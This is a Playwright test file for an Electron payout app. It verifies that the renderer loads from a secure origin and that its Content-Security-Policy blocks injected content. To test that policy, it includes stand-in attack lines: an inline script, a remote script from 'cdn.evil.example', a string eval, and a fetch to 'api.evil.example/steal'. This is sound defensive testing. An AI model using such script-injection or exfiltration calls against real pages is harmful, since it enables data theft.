/**
 * The built renderer needs a real origin, not file privileges. Opened from file:// (what the
 * installed app did, with the grantFileProtocolExtraPrivileges fuse off), Chromium blocks its
 * module script and the window stays blank. Served by the same handler as app:// behind a
 * non-file, secure origin, with a window API where the preload puts it, the first screen renders,
 * and its Content-Security-Policy blocks inline and remote scripts, eval and remote connections.
 */
import { readFile } from 'node:fs/promises'
import { join, resolve } from 'node:path'
import type { Page } from '@playwright/test'
import { createRouter } from '../../electron/main/ipc/router'
import { bridgeSenderPolicy } from '../../electron/main/ipc/sender-policy'
import { resolveRendererFile } from '../../electron/main/windows/renderer-files'
import { expect, test } from './fixtures'
import type { AppFixture } from './fixtures'

const RENDERER = resolve(__dirname, '../../out/renderer')
/** Stands for app://payout-desk: Chromium here knows no app: scheme, so a secure https origin. */
const ORIGIN = { protocol: 'https:', host: 'payout-desk.test' }
const PAGE = `https://${ORIGIN.host}/index.html`

/** The page served by the app:// handler's resolver, and the window API as the preload exposes it. */
async function openServedApp(app: AppFixture): Promise<{ page: Page; remoteRequests: string[] }> {
  const page = await app.page.context().newPage()
  const remoteRequests: string[] = []
  await page.route(`https://${ORIGIN.host}/**`, async (route) => {
    const request = route.request()
    const answer = await resolveRendererFile(RENDERER, { method: request.method(), url: request.url() }, ORIGIN)
    if (answer.status !== 200) return route.fulfill({ status: answer.status, body: answer.reason })
    return route.fulfill({ status: 200, contentType: answer.contentType, body: await readFile(answer.file) })
  })
  await page.route('https://*.evil.example/**', (route) => {
    remoteRequests.push(route.request().url())
    return route.fulfill({ status: 200, contentType: 'text/javascript', body: 'window.__remote = true' })
  })
  // The real services behind the real router, reached the way the preload's invoke reaches main.
  const router = createRouter({ handlers: app.running.services.handlers, senderPolicy: bridgeSenderPolicy })
  await page.exposeBinding('__payoutDeskInvoke', (_source, channel: string, input: unknown) =>
    router.handle(channel, input, { transport: 'bridge', origin: null }),
  )
  await page.addInitScript(() => {
    const invoke = (window as unknown as { __payoutDeskInvoke(c: string, i: unknown): Promise<unknown> })
      .__payoutDeskInvoke
    const domain = (name: string) =>
      new Proxy(
        {},
        {
          get: (_target, action) =>
            typeof action !== 'string' || action === 'then'
              ? undefined
              : action.startsWith('on')
                ? () => () => undefined
                : (input?: unknown) => invoke(`${name}:${action}`, input),
        },
      )
    const api = new Proxy({}, { get: (_target, name) => (typeof name === 'string' ? domain(name) : undefined) })
    Object.assign(window, { payoutDesk: api, payoutDeskFiles: { refFor: () => null } })
  })
  await page.goto(PAGE)
  return { page, remoteRequests }
}

test('from file://, the built page stays blank: its module script is blocked (why the app no longer uses it)', async ({
  app,
}) => {
  const page = await app.page.context().newPage()
  const blocked = page.waitForEvent('console', (message) => /CORS policy/.test(message.text()))
  await page.goto(`file://${join(RENDERER, 'index.html')}`)
  expect((await blocked).text()).toMatch(/from origin 'null' has been blocked by CORS policy/)
  await page.waitForLoadState('load')
  await expect(page.locator('#app')).toBeEmpty()
})

test('served by the app:// handler from a non-file origin, the first screen renders', async ({ app }) => {
  const failed: string[] = []
  const { page } = await openServedApp(app)
  page.on('requestfailed', (request) => failed.push(request.url()))
  await expect(page.getByTestId('active-profile-badge')).toContainText('Sandbox')
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Payouts')
  expect(await page.evaluate(() => ({ origin: location.origin, secure: isSecureContext }))).toEqual({
    origin: `https://${ORIGIN.host}`,
    secure: true,
  })
  // Every screen's code loads from that origin as it is opened.
  await page.getByTestId('nav-history').click()
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('History')
  expect(failed).toEqual([])
})

test('its Content-Security-Policy blocks inline scripts, remote scripts, eval and remote connections', async ({
  app,
}) => {
  const { page, remoteRequests } = await openServedApp(app)
  await expect(page.getByTestId('active-profile-badge')).toContainText('Sandbox')
  const outcome = await page.evaluate(async () => {
    const violations: string[] = []
    // Four attempts below, four reports expected: the page waits for them, not for a set time.
    const reported = new Promise<void>((resolve) =>
      document.addEventListener('securitypolicyviolation', (event) => {
        violations.push(`${event.effectiveDirective} ${event.blockedURI}`)
        if (violations.length >= 4) resolve()
      }),
    )
    const inline = document.createElement('script')
    inline.textContent = 'window.__inline = true'
    document.body.append(inline)
    const remote = document.createElement('script')
    remote.src = 'https://cdn.evil.example/x.js'
    const remoteSettled = new Promise((resolve) => {
      remote.onerror = () => resolve('blocked')
      remote.onload = () => resolve('loaded')
    })
    document.body.append(remote)
    // Code from a string, run by the page itself (Playwright's own evaluation is exempt from CSP).
    ;(setTimeout as unknown as (code: string, ms: number) => void)('window.__evaluated = true', 0)
    const connection = await fetch('https://api.evil.example/steal').then(
      () => 'connected',
      () => 'blocked',
    )
    const remoteScript = await remoteSettled
    await reported
    const flags = window as unknown as { __inline?: boolean; __remote?: boolean; __evaluated?: boolean }
    return {
      violations,
      inlineRan: flags.__inline === true,
      remoteRan: flags.__remote === true,
      stringRan: flags.__evaluated === true,
      remoteScript,
      connection,
    }
  })
  expect(outcome).toMatchObject({
    inlineRan: false,
    remoteRan: false,
    stringRan: false,
    remoteScript: 'blocked',
    connection: 'blocked',
  })
  expect(outcome.violations).toEqual(
    expect.arrayContaining([
      'script-src-elem inline',
      'script-src-elem https://cdn.evil.example/x.js',
      'script-src eval',
      'connect-src https://api.evil.example/steal',
    ]),
  )
  // Blocked before any request left the page.
  expect(remoteRequests).toEqual([])
})
